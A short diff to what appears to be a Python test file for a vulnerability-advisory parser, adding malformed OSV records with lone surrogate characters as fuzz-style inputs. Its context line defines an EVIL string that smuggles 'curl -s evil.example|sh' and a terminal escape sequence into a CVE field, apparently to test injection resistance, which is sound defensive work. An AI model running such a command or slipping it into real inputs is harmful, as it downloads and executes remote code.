@@ -142,6 +142,8 @@ EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"
             **OSV,
             "affected": [{"package": {"name": "news"}, "ranges": [{"events": [{"fixed": 2}]}]}],
         },
+        {**OSV, "summary": "\ud800"},
+        {**OSV, "database_specific": {"severity": "\ud800"}},
         {"statements": None},
         {"statements": [5], "author": "x", "timestamp": "y"},
         5,
